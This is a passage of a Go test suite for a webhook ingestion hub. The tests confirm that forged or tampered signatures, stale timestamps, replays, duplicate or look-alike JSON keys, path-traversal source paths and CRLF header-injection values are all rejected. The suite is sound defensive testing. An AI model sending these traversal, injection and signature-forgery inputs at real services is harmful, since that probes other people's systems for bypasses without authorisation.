		r.accept(t, hxReq{path: "/v1/events/partner", ct: "application/cloudevents+json", body: ev.bytes()}, "partner", 1)
		r.expectContact(m)
	})
}

func (r *hxRunner) repeatedKeys(t *testing.T) {
	const cat = "repeated keys"
	rule := "must appear once in its object"
	dataWith := func(ev hxObj, extra ...hxKV) hxObj {
		d := ev.data()
		for _, kv := range extra {
			d = d.add(kv.k, kv.v)
		}
		return ev.set("data", d.String())
	}
	for _, c := range []struct {
		name, field string
		make        func(ev hxObj) hxObj
	}{
		{"id at the top", "id", func(ev hxObj) hxObj { return ev.add("id", `"evt-other"`) }},
		{"subject at the top", "subject", func(ev hxObj) hxObj { return ev.add("subject", `"HX-OTHER"`) }},
		{"type at the top", "type", func(ev hxObj) hxObj { return ev.add("type", `"loyalty.member.deleted"`) }},
		{"data at the top", "data", func(ev hxObj) hxObj { return ev.add("data", `{"version":999}`) }},
		{"version in data", "data.version", func(ev hxObj) hxObj { return dataWith(ev, hxKV{"version", "999"}) }},
		{"id in data", "data.id", func(ev hxObj) hxObj { return dataWith(ev, hxKV{"id", `"HX-OTHER"`}) }},
		{"tier in data, same value", "data.tier", func(ev hxObj) hxObj { return dataWith(ev, hxKV{"tier", ev.data()[7].v}) }},
		{"ver\\u0073ion in data", "data.version", func(ev hxObj) hxObj { return dataWith(ev, hxKV{`ver\u0073ion`, "999"}) }},
		{"\\u0069d at the top", "id", func(ev hxObj) hxObj { return ev.add(`\u0069d`, `"evt-other"`) }},
		{"d\\u0061ta at the top", "data", func(ev hxObj) hxObj { return ev.add(`d\u0061ta`, `{"version":999}`) }},
		{"version three times", "data.version", func(ev hxObj) hxObj {
			return dataWith(ev, hxKV{"version", "998"}, hxKV{"version", "999"})
		}},
		{"in an array of objects in data", "data.items[1].sku", func(ev hxObj) hxObj {
			return ev.setData("items", `[{"sku":"a"},{"sku":"b","sku":"c"}]`)
		}},
		{"deep in data", "data.a.b.c", func(ev hxObj) hxObj { return ev.setData("a", `{"b":{"c":1,"c":2}}`) }},
		{"both spellings escaped", "data.points_balance", func(ev hxObj) hxObj {
			return ev.set("data", ev.data().rename("points_balance", `p\u006fints_balance`).add(`points\u005fbalance`, "1").String())
		}},
	} {
		r.run(t, cat, c.name, func(t *testing.T) {
			r.expect(t, hxReq{ct: "application/cloudevents+json", body: c.make(r.sample()).bytes(), sign: true}, 422, hxF(c.field, rule))
		})
	}
	r.run(t, cat, "version repeated in a batch's third event", func(t *testing.T) {
		p := r.expect(t, hxReq{ct: "application/cloudevents-batch+json", body: hxBatch(r.sample(), r.sample(), dataWith(r.sample(), hxKV{"version", "999"})), sign: true},
			422, hxF("data.version", rule))
		for _, e := range p.Errors {
			if e.Field == "data.version" {
				require.NotNil(t, e.Event)
				assert.Equal(t, 2, *e.Event)
			}
		}
	})
	r.run(t, cat, "a key repeated in binary-mode data", func(t *testing.T) {
		n := r.next()
		r.expect(t, hxReq{path: "/v1/events/partner", ct: "application/json", hdr: hxBinaryHeaders(fmt.Sprintf("evt-rk-%d", n), "HX-RK"),
			body: []byte(`{"version":1,"version":2}`)}, 422, hxF("data.version", rule))
	})
}

func (r *hxRunner) attributeNames(t *testing.T) {
	const cat = "attribute names"
	rule := "is not a CloudEvents attribute name"
	for _, c := range []struct{ name, key, field string }{
		{"Data beside data", "Data", "Data"}, {"ID beside id", "ID", "ID"}, {"Subject beside subject", "Subject", "Subject"},
		{"SPECVERSION", "SPECVERSION", "SPECVERSION"}, {"Type", "Type", "Type"}, {"dAta", "dAta", "dAta"},
		{"Source", "Source", "Source"}, {"Time", "Time", "Time"}, {"an underscore", "my_ext", "my_ext"},
		{"a dash", "x-foo", "x-foo"}, {"a dot", "ext.dot", "ext.dot"},
		{"21 characters", "averyveryverylongname", "averyveryverylongname"}, {"Cyrillic а in data", "dаta", "dаta"},
		{"a trailing space", "data ", "data "}, {"a NUL escape", `data\u0000`, "data\x00"},
	} {
		r.run(t, cat, c.name, func(t *testing.T) {
			r.expect(t, hxReq{ct: "application/cloudevents+json", body: r.sample().add(c.key, `{"version":999999}`).bytes(), sign: true}, 422,
				hxF(c.field, rule))
		})
	}
	// An empty name is named by the event (a fault always names a field).
	r.run(t, cat, "empty", func(t *testing.T) {
		r.expect(t, hxReq{ct: "application/cloudevents+json", body: r.sample().add("", `{"version":999999}`).bytes(), sign: true}, 422,
			hxF("event", "empty name"))
	})
	// The schema's fault comes too; attribute names are checked on every
	// event, the other rules of the hub on events that match the schema.
	r.run(t, cat, "Data instead of data", func(t *testing.T) {
		r.expect(t, hxReq{ct: "application/cloudevents+json", body: r.sample().rename("data", "Data").bytes(), sign: true}, 422,
			hxF("data", "is required"))
	})
	r.run(t, cat, "ID instead of id", func(t *testing.T) {
		r.expect(t, hxReq{path: "/v1/events/partner", ct: "application/cloudevents+json", body: r.sample().rename("id", "ID").bytes()}, 422,
			hxF("id", "is required"))
	})
}

func (r *hxRunner) forgedSignatures(t *testing.T) {
	const cat = "forged signatures"
	type forged struct {
		name  string
		hdr   func(body []byte) [][2]string
		body  func(body []byte) []byte // what is sent, when not what was signed
		field string
		rule  string
	}
	now := func() string { return strconv.FormatInt(time.Now().Unix(), 10) }
	std := func(id, ts, sig string) [][2]string {
		return [][2]string{{"webhook-id", id}, {"webhook-timestamp", ts}, {"webhook-signature", sig}}
	}
	newID := func() string { return fmt.Sprintf("msg_hx_forged_%d", r.next()) }
	good := func(body []byte) (string, string, string) {
		id, ts := newID(), now()
		return id, ts, hxSignature(hxKey, id, ts, body)
	}
	sigRule := "must hold a signature of this delivery made with one of the source's keys"
	cases := []forged{
		{name: "another key", hdr: func(b []byte) [][2]string {
			id, ts := newID(), now()
			return std(id, ts, hxSignature([]byte("another-key-of-32-bytes-0123456"), id, ts, b))
		}},
		{name: "the key's whsec string as raw bytes", hdr: func(b []byte) [][2]string {
			id, ts := newID(), now()
			return std(id, ts, hxSignature([]byte(e2eKey), id, ts, b))
		}},
		{name: "a signature of another body", hdr: func(b []byte) [][2]string {
			id, ts := newID(), now()
			return std(id, ts, hxSignature(hxKey, id, ts, []byte(`{"another":"body"}`)))
		}},
		{name: "signed, then the subject changed", hdr: func(b []byte) [][2]string { return std(good(b)) },
			body: func(b []byte) []byte {
				return bytes.Replace(b, []byte(`"subject":"HX-C-`), []byte(`"subject":"HX-X-`), 1)
			}},
		{name: "signed, then the version raised", hdr: func(b []byte) [][2]string { return std(good(b)) },
			body: func(b []byte) []byte { return bytes.Replace(b, []byte(`"version":`), []byte(`"version":9`), 1) }},
		{name: "signed, then a space added", hdr: func(b []byte) [][2]string { return std(good(b)) },
			body: func(b []byte) []byte { return append(slices.Clone(b), ' ') }},
		{name: "another webhook-id than signed", hdr: func(b []byte) [][2]string {
			_, ts, sig := good(b)
			return std(newID(), ts, sig)
		}},
		{name: "another timestamp than signed", hdr: func(b []byte) [][2]string {
			id, ts, sig := good(b)
			n, _ := strconv.ParseInt(ts, 10, 64)
			return std(id, strconv.FormatInt(n-1, 10), sig)
		}},
		{name: "an empty signature", hdr: func(b []byte) [][2]string { return std(newID(), now(), "") }, field: "webhook-signature", rule: "is required"},
		{name: "v1, and nothing", hdr: func(b []byte) [][2]string { return std(newID(), now(), "v1,") }},
		{name: "v1 without a comma", hdr: func(b []byte) [][2]string { return std(newID(), now(), "v1") }},
		{name: "malformed base64", hdr: func(b []byte) [][2]string { return std(newID(), now(), "v1,!!!not*base64!!!") }},
		{name: "hex instead of base64", hdr: func(b []byte) [][2]string {
			id, ts := newID(), now()
			m := hmac.New(sha256.New, hxKey)
			m.Write([]byte(id + "." + ts + "."))
			m.Write(b)
			return std(id, ts, fmt.Sprintf("v1,%x", m.Sum(nil)))
		}},
		{name: "the v2 scheme", hdr: func(b []byte) [][2]string {
			id, ts, sig := good(b)
			return std(id, ts, "v2,"+strings.TrimPrefix(sig, "v1,"))
		}},
		{name: "V1 in capitals", hdr: func(b []byte) [][2]string {
			id, ts, sig := good(b)
			return std(id, ts, "V1,"+strings.TrimPrefix(sig, "v1,"))
		}},
		{name: "no scheme", hdr: func(b []byte) [][2]string {
			id, ts, sig := good(b)
			return std(id, ts, strings.TrimPrefix(sig, "v1,"))
		}},
		{name: "the signature one character short", hdr: func(b []byte) [][2]string {
			id, ts, sig := good(b)
			return std(id, ts, sig[:len(sig)-2]+"=")
		}},
		{name: "50 signatures, none valid", hdr: func(b []byte) [][2]string {
			id, ts := newID(), now()
			var sigs []string
			for i := 0; i < 50; i++ {
				sigs = append(sigs, hxSignature([]byte(fmt.Sprintf("wrong-key-number-%02d-padding", i)), id, ts, b))
			}
			return std(id, ts, strings.Join(sigs, " "))
		}},
		{name: "the signature of a body with a trailing newline", hdr: func(b []byte) [][2]string {
			id, ts := newID(), now()
			return std(id, ts, hxSignature(hxKey, id, ts, append(slices.Clone(b), '\n')))
		}},
		{name: "no webhook-id", hdr: func(b []byte) [][2]string {
			_, ts, sig := good(b)
			return [][2]string{{"webhook-timestamp", ts}, {"webhook-signature", sig}}
		}, field: "webhook-id", rule: "is required"},
		{name: "no webhook-timestamp", hdr: func(b []byte) [][2]string {
			id, _, sig := good(b)
			return [][2]string{{"webhook-id", id}, {"webhook-signature", sig}}
		}, field: "webhook-timestamp", rule: "is required"},
		{name: "no Standard Webhooks headers at all", hdr: func(b []byte) [][2]string { return nil }, field: "webhook-signature", rule: "is required"},
		{name: "a webhook-id of 256 bytes, validly signed", hdr: func(b []byte) [][2]string {
			id, ts := strings.Repeat("i", 256), now()
			return std(id, ts, hxSignature(hxKey, id, ts, b))
		}, field: "webhook-id", rule: "at most 255 bytes"},
		{name: "a webhook-id with a tab, validly signed", hdr: func(b []byte) [][2]string {
			id, ts := "msg\tid"+strconv.Itoa(r.next()), now()
			return std(id, ts, hxSignature(hxKey, id, ts, b))
		}, field: "webhook-id", rule: "without control characters"},
		{name: "an X-Hub-Signature-256 instead", hdr: func(b []byte) [][2]string {
			m := hmac.New(sha256.New, hxKey)
			m.Write(b)
			return [][2]string{{"X-Hub-Signature-256", fmt.Sprintf("sha256=%x", m.Sum(nil))}}
		}, field: "webhook-signature", rule: "is required"},
	}
	for _, c := range cases {
		r.run(t, cat, c.name, func(t *testing.T) {
			signed := r.sample().bytes()
			sent := signed
			if c.body != nil {
				sent = c.body(signed)
			}
			resp, body := r.do(t, hxReq{ct: "application/cloudevents+json", body: sent, hdr: c.hdr(signed)})
			r.problem(t, resp, body, 401, hxF(cmp.Or(c.field, "webhook-signature"), cmp.Or(c.rule, sigRule)))
			assert.Contains(t, resp.Header.Get("WWW-Authenticate"), "Standard-Webhooks")
		})
	}
	r.run(t, cat, "valid only as the last of 30 signatures: accepted (key rotation)", func(t *testing.T) {
		ev, m := r.validLedger()
		b := ev.bytes()
		id, ts := newID(), now()
		var sigs []string
		for i := 0; i < 29; i++ {
			sigs = append(sigs, hxSignature([]byte(fmt.Sprintf("old-key-number-%02d-padding", i)), id, ts, b))
		}
		sigs = append(sigs, hxSignature(hxKey, id, ts, b))
		r.accept(t, hxReq{ct: "application/cloudevents+json", body: b, hdr: std(id, ts, strings.Join(sigs, " "))}, "ledger", 1)
		r.expectLPM(m)
	})
}

func (r *hxRunner) timestamps(t *testing.T) {
	const cat = "timestamps"
	at := func(d time.Duration) string { return strconv.FormatInt(time.Now().Add(d).Unix(), 10) }
	for _, c := range []struct{ name, ts, rule string }{
		{"301 seconds old", at(-301 * time.Second), "within 5m0s"},
		{"an hour old", at(-time.Hour), "within 5m0s"},
		{"301 seconds ahead", at(301 * time.Second), "within 5m0s"},
		{"a day ahead", at(24 * time.Hour), "within 5m0s"},
		{"0", "0", "within 5m0s"},
		{"-1", "-1", "within 5m0s"},
		{"1", "1", "within 5m0s"},
		{"the year 5138", "99999999999", "within 5m0s"},
		{"the largest int64", "9223372036854775807", "within 5m0s"},
		{"the smallest int64", "-9223372036854775808", "within 5m0s"},
		{"past int64", "9223372036854775808", "Unix time in whole seconds"},
		{"not a number", "abc", "Unix time in whole seconds"},
		{"an exponent", "1.7e9", "Unix time in whole seconds"},
		{"a fraction", at(0) + ".5", "Unix time in whole seconds"},
		{"milliseconds", strconv.FormatInt(time.Now().UnixMilli(), 10), "within 5m0s"},
		{"hexadecimal", "0x6553f100", "Unix time in whole seconds"},
		{"Arabic-Indic digits", "١٧٠٠٠٠٠٠٠٠", "Unix time in whole seconds"},
		{"RFC 3339", time.Now().UTC().Format(time.RFC3339), "Unix time in whole seconds"},
	} {
		r.run(t, cat, c.name, func(t *testing.T) {
			body := r.sample().bytes()
			id := fmt.Sprintf("msg_hx_ts_%d", r.next())
			hdr := [][2]string{{"webhook-id", id}, {"webhook-timestamp", c.ts}, {"webhook-signature", hxSignature(hxKey, id, c.ts, body)}}
			resp, b := r.do(t, hxReq{ct: "application/cloudevents+json", body: body, hdr: hdr})
			r.problem(t, resp, b, 401, hxF("webhook-timestamp", c.rule))
		})
	}
	r.run(t, cat, "290 seconds old is still accepted", func(t *testing.T) {
		ev, m := r.validLedger()
		body := ev.bytes()
		id, ts := fmt.Sprintf("msg_hx_ts_%d", r.next()), at(-290*time.Second)
		hdr := [][2]string{{"webhook-id", id}, {"webhook-timestamp", ts}, {"webhook-signature", hxSignature(hxKey, id, ts, body)}}
		r.accept(t, hxReq{ct: "application/cloudevents+json", body: body, hdr: hdr}, "ledger", 1)
		r.expectLPM(m)
	})
}

func (r *hxRunner) replays(t *testing.T) {
	const cat = "replays"
	ev, m := r.validLedger()
	body := ev.bytes()
	id := fmt.Sprintf("msg_hx_replay_%d", r.next())
	ts := strconv.FormatInt(time.Now().Unix(), 10)
	hdr := func(id, ts string, b []byte) [][2]string {
		return [][2]string{{"webhook-id", id}, {"webhook-timestamp", ts}, {"webhook-signature", hxSignature(hxKey, id, ts, b)}}
	}
	r.accept(t, hxReq{ct: "application/cloudevents+json", body: body, hdr: hdr(id, ts, body)}, "ledger", 1)
	rec := r.expectLPM(m)
	rec.versions = []float64{float64(m.Version)} // written once, however often it is replayed
	replayed := func(t *testing.T, q hxReq, n int) {
		resp, b := r.do(t, q)
		require.Equal(t, http.StatusAccepted, resp.StatusCode, "%s", b)
		var a struct {
			Accepted int
			IDs      []string
			Replayed bool
		}
		require.NoError(t, json.Unmarshal(b, &a))
		assert.True(t, a.Replayed, "answered as a replay: %s", b)
		assert.Equal(t, n, a.Accepted)
	}
	r.run(t, cat, "the same delivery again", func(t *testing.T) {
		replayed(t, hxReq{ct: "application/cloudevents+json", body: body, hdr: hdr(id, ts, body)}, 1)
	})
	r.run(t, cat, "the same delivery a third time", func(t *testing.T) {
		replayed(t, hxReq{ct: "application/cloudevents+json", body: body, hdr: hdr(id, ts, body)}, 1)
	})
	r.run(t, cat, "the same delivery signed again with a later timestamp", func(t *testing.T) {
		later := strconv.FormatInt(time.Now().Unix()+2, 10)
		replayed(t, hxReq{ct: "application/cloudevents+json", body: body, hdr: hdr(id, later, body)}, 1)
	})
	r.run(t, cat, "the same webhook-id with another body", func(t *testing.T) {
		other := r.sample().bytes()
		r.expect(t, hxReq{ct: "application/cloudevents+json", body: other, hdr: hdr(id, ts, other)}, 409,
			hxF("webhook-id", "must name one delivery"))
	})
	r.run(t, cat, "the same webhook-id with the body and a space", func(t *testing.T) {
		other := append(slices.Clone(body), ' ')
		r.expect(t, hxReq{ct: "application/cloudevents+json", body: other, hdr: hdr(id, ts, other)}, 409, hxF("webhook-id", "must name one delivery"))
	})
	r.run(t, cat, "the same delivery with a stale timestamp", func(t *testing.T) {
		stale := strconv.FormatInt(time.Now().Unix()-400, 10)
		r.expect(t, hxReq{ct: "application/cloudevents+json", body: body, hdr: hdr(id, stale, body)}, 401, hxF("webhook-timestamp", "within"))
	})
	// A batch delivery, replayed.
	e1, m1 := r.validLedger()
	e2, m2 := r.validLedger()
	bb := hxBatch(e1, e2)
	bid := fmt.Sprintf("msg_hx_replay_%d", r.next())
	r.accept(t, hxReq{ct: "application/cloudevents-batch+json", body: bb, hdr: hdr(bid, ts, bb)}, "ledger", 2)
	r.expectLPM(m1)
	r.expectLPM(m2)
	r.run(t, cat, "a batch delivery again", func(t *testing.T) {
		replayed(t, hxReq{ct: "application/cloudevents-batch+json", body: bb, hdr: hdr(bid, ts, bb)}, 2)
	})
	// A refused delivery is not remembered: sent again, refused again.
	bad := r.sample().setData("version", "-1").bytes()
	rid := fmt.Sprintf("msg_hx_replay_%d", r.next())
	for i := 1; i <= 2; i++ {
		r.run(t, cat, fmt.Sprintf("a refused delivery, sent the %d. time", i), func(t *testing.T) {
			r.expect(t, hxReq{ct: "application/cloudevents+json", body: bad, hdr: hdr(rid, ts, bad)}, 422, hxF("data.version", "at least 0|from 0"))
		})
	}
}

func (r *hxRunner) binarySigned(t *testing.T) {
	const cat = "binary mode on a signed source"
	data := r.member("HX-BINARY", 1).data().bytes()
	for _, ct := range []string{"application/json", "application/json; charset=utf-8", "Application/JSON"} {
		r.run(t, cat, ct, func(t *testing.T) {
			resp, body := r.do(t, hxReq{ct: ct, body: data, sign: true, hdr: hxBinaryHeaders(fmt.Sprintf("evt-bin-%d", r.next()), "HX-BINARY")})
			r.problem(t, resp, body, 415, hxF("Content-Type", "for a signed source"))
			assert.NotContains(t, resp.Header.Get("Accept-Post"), "application/json,", "binary mode is not offered")
		})
	}
	r.run(t, cat, "unsigned: the signature is asked for first", func(t *testing.T) {
		r.expect(t, hxReq{ct: "application/json", body: data, hdr: hxBinaryHeaders("evt-bin-unsigned", "HX-BINARY")}, 401,
			hxF("webhook-signature", "is required"))
	})
	r.run(t, cat, "a structured body sent as binary", func(t *testing.T) {
		r.expect(t, hxReq{ct: "application/json", body: r.sample().bytes(), sign: true}, 415, hxF("Content-Type", "for a signed source"))
	})
	// The insecure source takes binary mode: one valid event, verbatim.
	r.run(t, cat, "partner (insecure) takes a valid binary event", func(t *testing.T) {
		n := r.next()
		id := fmt.Sprintf("HX-B-%04d", n)
		m := r.member(id, int64(n))
		hdr := append(hxBinaryHeaders("evt-"+id, id), [2]string{"ce-time", "2026-03-01T10:00:00Z"})
		r.accept(t, hxReq{path: "/v1/events/partner", ct: "application/json", body: m.data().bytes(), hdr: hdr}, "partner", 1)
		r.expectContact(m)
	})
}

func (r *hxRunner) unknownSources(t *testing.T) {
	const cat = "unknown sources"
	body := r.sample().bytes()
	declared := hxF("source", "must be one of the declared sources: ledger, partner")
	for _, c := range []struct {
		name, path string
		fault      *hxFault // nil: no such path at all
	}{
		{"undeclared", "/v1/events/unknown", &declared},
		{"upper case", "/v1/events/LEDGER", &declared},
		{"capitalised", "/v1/events/Ledger", &declared},
		{"NUL appended", "/v1/events/ledger%00", &declared},
		{"space appended", "/v1/events/ledger%20", &declared},
		{"encoded dots", "/v1/events/%2e%2e", &declared},
		{"dots", "/v1/events/..", &declared},
		{"a dot", "/v1/events/.", &declared},
		{"an encoded slash", "/v1/events/ledger%2F..%2Fpartner", nil},
		{"a traversal", "/v1/events/ledger/../partner", nil},
		{"a deeper traversal", "/v1/events/../../v1/events/ledger", nil},
		{"an extra segment", "/v1/events/ledger/extra", nil},
		{"empty", "/v1/events/", nil},
		{"300 characters", "/v1/events/" + strings.Repeat("a", 300), &declared},
		{"an accented letter", "/v1/events/l%C3%A9dger", &declared},
		{"an encoded question mark", "/v1/events/ledger%3Fx", &declared},
		{"a matrix parameter", "/v1/events/ledger;x=1", &declared},
		{"a backslash", "/v1/events/..%5Cpartner", &declared},
		{"a double slash", "//v1/events/ledger", nil},
		{"invalid percent-encoding", "/v1/events/%zz", nil},
	} {
		r.run(t, cat, c.name, func(t *testing.T) {
			a := r.rawSend(t, hxHead("POST", c.path, "Content-Type: application/cloudevents+json", "Content-Length: "+strconv.Itoa(len(body)), "Connection: close")+string(body))
			require.NotNil(t, a.resp)
			if a.resp.StatusCode == 400 && a.resp.Header.Get("Content-Type") != hxProblemType {
				r.netHTTPRefusal(t, cat, a, 400) // a request target net/http cannot parse
				return
			}
			if c.fault != nil {
				r.rawProblem(t, a, 404, *c.fault)
			} else {
				r.rawProblem(t, a, 404)
			}
		})
	}
	r.run(t, cat, "an encoded letter, unsigned", func(t *testing.T) {
		// Either the source it spells (signed: 401) or a name not declared
		// (404); never accepted unsigned.
		resp, b := r.do(t, hxReq{path: "/v1/events/%6cedger", ct: "application/cloudevents+json", body: body})
		if resp.StatusCode == http.StatusUnauthorized {
			r.problem(t, resp, b, 401, hxF("webhook-signature", "is required"))
		} else {
			r.problem(t, resp, b, 404, declared)
		}
	})
}

func (r *hxRunner) keyTricks(t *testing.T) {
	const cat = "key tricks"
	ev := func() hxObj { return r.sample() }
	structured := func(body []byte) hxReq { return hxReq{ct: "application/cloudevents+json", body: body, sign: true} }
	r.run(t, cat, "subject differs from data.id", func(t *testing.T) {
		e := ev().setData("id", `"HX-SOMEONE-ELSE"`)
		r.expect(t, structured(e.bytes()), 422, hxF("data.id", `must equal subject: subject is "HX-C-\d+", data.id is "HX-SOMEONE-ELSE"`))
	})
	r.run(t, cat, "data.id differs from subject only by case", func(t *testing.T) {
		e := ev()
		var subject string
		_ = json.Unmarshal([]byte(e[4].v), &subject)
		e = e.setData("id", hxQ(strings.ToLower(subject)))
		r.expect(t, structured(e.bytes()), 422, hxF("data.id", "must equal subject"))
	})
	for _, attr := range []string{"id", "source", "subject"} {
		for _, n := range []int{256, 64 << 10} {
			r.run(t, cat, fmt.Sprintf("%s of %d bytes", attr, n), func(t *testing.T) {
				v := strings.Repeat("k", n)
				e := ev().set(attr, hxQ(v))
				if attr == "subject" {
					e = e.setData("id", hxQ(v))
				}
				r.expect(t, structured(e.bytes()), 422, hxF(attr, "at most 255"))
			})
		}
	}
	r.run(t, cat, "a multibyte subject of 86 characters, 258 bytes", func(t *testing.T) {
		v := strings.Repeat("€", 86)
		r.expect(t, structured(ev().set("subject", hxQ(v)).setData("id", hxQ(v)).bytes()), 422, hxF("subject", "at most 255 bytes"))
	})
	r.run(t, cat, "a multibyte id of 128 characters, 256 bytes", func(t *testing.T) {
		r.expect(t, structured(ev().set("id", hxQ(strings.Repeat("é", 128))).bytes()), 422, hxF("id", "at most 255 bytes"))
	})
	// id and source of exactly 255 bytes are fine.
	for _, attr := range []string{"id", "source"} {
		r.run(t, cat, attr+" of exactly 255 bytes is accepted", func(t *testing.T) {
			e, m := r.validLedger()
			v := strings.Repeat("q", 255)
			if attr == "id" {
				v = ("evt-" + m.ID + "-" + v)[:255]
			}
			r.accept(t, structured(e.set(attr, hxQ(v)).bytes()), "ledger", 1)
			r.expectLPM(m)
		})
	}
	for _, c := range []struct{ name, v string }{
		{"2^53", "9007199254740992"}, {"2^63-1", "9223372036854775807"}, {"-1", "-1"}, {"1.5", "1.5"},
		{"1e3", "1e3"}, {`"7"`, `"7"`}, {"7.0", "7.0"}, {"2^64", "18446744073709551616"},
	} {
		r.run(t, cat, "version "+c.name, func(t *testing.T) {
			r.expect(t, structured(ev().setData("version", c.v).bytes()), 422, hxF("data.version", "integer|at least 0|at most 9007199254740991|64-bit"))
		})
	}
	for _, c := range []struct {
		name    string
		version int64
	}{{"version 0 is accepted", 0}, {"version 2^53-1 is accepted", 1<<53 - 1}} {
		r.run(t, cat, c.name, func(t *testing.T) {
			id := fmt.Sprintf("HX-V-%04d", r.next())
			m := r.member(id, c.version)
			r.accept(t, structured(hxEvent("evt-"+id, id, m.data()).bytes()), "ledger", 1)
			r.expectLPM(m)
		})
	}
	// Segments.
	seg := func(t *testing.T, e hxObj, field, rule string) {
		r.expect(t, structured(e.bytes()), 422, hxF(field, rule))
	}
	r.run(t, cat, "a segment subject holding ':'", func(t *testing.T) {
		seg(t, hxSegment("evt-seg-1", "tier:gold", "tier:gold", []string{"M-1"}, nil), "subject", "must not contain ':'")
	})
	r.run(t, cat, "a member both added and removed", func(t *testing.T) {
		seg(t, hxSegment("evt-seg-2", "tier-gold", "tier-gold", []string{"M-1", "M-2"}, []string{"M-2"}), "data.removed[0]", `must not also be in data.added \(member "M-2"\)`)
	})
	r.run(t, cat, "segment_id differs from subject", func(t *testing.T) {
		seg(t, hxSegment("evt-seg-3", "tier-gold", "tier-silver", []string{"M-1"}, nil), "data.segment_id", `must equal subject \("tier-gold"\)`)
	})
	r.run(t, cat, "an added member of 256 bytes", func(t *testing.T) {
		seg(t, hxSegment("evt-seg-4", "tier-gold", "tier-gold", []string{"M-1", strings.Repeat("m", 256)}, nil), "data.added[1]", "at most 255")
	})
	r.run(t, cat, "a removed member with a newline", func(t *testing.T) {
		seg(t, hxSegment("evt-seg-5", "tier-gold", "tier-gold", nil, []string{"M-1\nM-2"}), "data.removed[0]", "control characters")
	})
	r.run(t, cat, "a segment without added", func(t *testing.T) {
		e := hxSegment("evt-seg-6", "tier-gold", "tier-gold", nil, nil)
		seg(t, e.set("data", e.data().del("added").String()), "data.added", "is required")
	})
	r.run(t, cat, "added as a string", func(t *testing.T) {
		seg(t, hxSegment("evt-seg-7", "tier-gold", "tier-gold", nil, nil).setData("added", `"M-1"`), "data.added", "must be an array")
	})
	r.run(t, cat, "an added member that is a number", func(t *testing.T) {
		seg(t, hxSegment("evt-seg-8", "tier-gold", "tier-gold", nil, nil).setData("added", `[7]`), "data.added[0]", "must be a string")
	})
	// Ids within one batch.
	r.run(t, cat, "one id on two different events in a batch", func(t *testing.T) {
		a, b := ev(), ev()
		b = b.set("id", a[1].v)
		p := r.expect(t, hxReq{ct: "application/cloudevents-batch+json", body: hxBatch(a, b), sign: true}, 422, hxF("id", "event 0 has the same id with different content"))
		for _, e := range p.Errors {
			if e.Field == "id" {
				require.NotNil(t, e.Event)
				assert.Equal(t, 1, *e.Event)
			}
		}
	})
	r.run(t, cat, "an exact copy in a batch is accepted once", func(t *testing.T) {
		e, m := r.validLedger()
		resp, body := r.do(t, hxReq{ct: "application/cloudevents-batch+json", body: hxBatch(e, e, e), sign: true})
		require.Equal(t, http.StatusAccepted, resp.StatusCode, "%s", body)
		var a struct{ Accepted int }
		require.NoError(t, json.Unmarshal(body, &a))
		assert.Equal(t, 1, a.Accepted, "published once")
		r.mu.Lock()
		r.published["ledger"] += a.Accepted
		r.mu.Unlock()
		r.expectLPM(m)
	})
}

func (r *hxRunner) controlChars(t *testing.T) {
	const cat = "control characters in keys"
	for _, c := range []rune{0x00, 0x01, 0x08, '\t', '\n', '\r', 0x1b, 0x1f, 0x7f} {
		for _, attr := range []string{"id", "source", "subject"} {
			r.run(t, cat, fmt.Sprintf("%U in %s", c, attr), func(t *testing.T) {
				v := "HX" + string(c) + "key"
				e := r.sample().set(attr, hxQ(v))
				if attr == "subject" {
					e = e.setData("id", hxQ(v))
				}
				q := hxReq{ct: "application/cloudevents+json", body: e.bytes(), sign: true}
				if c%2 == 0 {
					q.path, q.sign = "/v1/events/partner", false
				}
				r.expect(t, q, 422, hxF(attr, "must not contain control characters"))
			})
		}
	}
	r.run(t, cat, "CR LF percent-encoded in ce-subject", func(t *testing.T) {
		r.expect(t, hxReq{path: "/v1/events/partner", ct: "application/json", body: []byte(`{"version":1}`),
			hdr: hxBinaryHeaders("evt-crlf", "HX%0D%0AInjected: yes")}, 422, hxF("ce-subject", "control characters"))
	})
	r.run(t, cat, "NUL percent-encoded in ce-id", func(t *testing.T) {
		r.expect(t, hxReq{path: "/v1/events/partner", ct: "application/json", body: []byte(`{"version":1}`),
			hdr: hxBinaryHeaders("evt%00nul", "HX-NUL")}, 422, hxF("ce-id", "control characters"))
	})
	for _, c := range []struct{ name, line string }{
		{"a bare CR in X-Request-Id", "X-Request-Id: a\rInjected: yes"},
		{"a NUL in a header", "X-Thing: a\x00b"},
		{"a header name with a space", "Bad Name: x"},
		{"a header line without a colon", "NoColonHere"},
	} {
		r.run(t, cat, c.name, func(t *testing.T) {
			a := r.rawSend(t, hxHead("POST", "/v1/events/partner", "Content-Type: application/cloudevents+json", "Content-Length: 2", c.line)+"{}")
			r.netHTTPRefusal(t, cat, a, 400)
		})
	}
}

// caseVariants: the CRM compares external ids case-insensitively, so
// CASE-AB and case-ab are one record, ordered by one version guard row.
func (r *hxRunner) caseVariants(t *testing.T) {
	const cat = "case variants of a key"
	n := r.next()
	upper, lower := fmt.Sprintf("CASE-AB-%d", n), fmt.Sprintf("case-ab-%d", n)
	v5 := r.member(upper, 5)
	r.accept(t, hxReq{ct: "application/cloudevents+json", body: hxEvent("evt-"+upper+"-v5", upper, v5.data()).bytes(), sign: true}, "ledger", 1)
	rec := r.expectLPM(v5)
	rec.versions = []float64{5}
	r.waitRecord(t, lpm, upper, 5)
	r.run(t, cat, "case-ab v1 after CASE-AB v5 is accepted, and skipped by the sync", func(t *testing.T) {
		v1 := r.member(lower, 1)
		r.accept(t, hxReq{ct: "application/cloudevents+json", body: hxEvent("evt-"+lower+"-v1", lower, v1.data()).bytes(), sign: true}, "ledger", 1)
		r.mu.Lock()
		r.skipped[syncLPM]++
		r.mu.Unlock()
	})
	// The other way round: the newer version under another spelling wins.
	cdLower, cdUpper := fmt.Sprintf("case-cd-%d", n), fmt.Sprintf("CASE-CD-%d", n)
	c1 := r.member(cdLower, 1)
	r.accept(t, hxReq{ct: "application/cloudevents+json", body: hxEvent("evt-"+cdLower+"-v1", cdLower, c1.data()).bytes(), sign: true}, "ledger", 1)
	r.waitRecord(t, lpm, cdLower, 1)
	r.run(t, cat, "CASE-CD v5 after case-cd v1 updates the one record", func(t *testing.T) {
		c5 := r.member(cdUpper, 5)
		r.accept(t, hxReq{ct: "application/cloudevents+json", body: hxEvent("evt-"+cdUpper+"-v5", cdUpper, c5.data()).bytes(), sign: true}, "ledger", 1)
		rec := r.expectLPM(c5)
		rec.foldKey = true
		rec.versions = []float64{1, 5}
	})
	r.run(t, cat, "two spellings in one batch: the newest version is written", func(t *testing.T) {
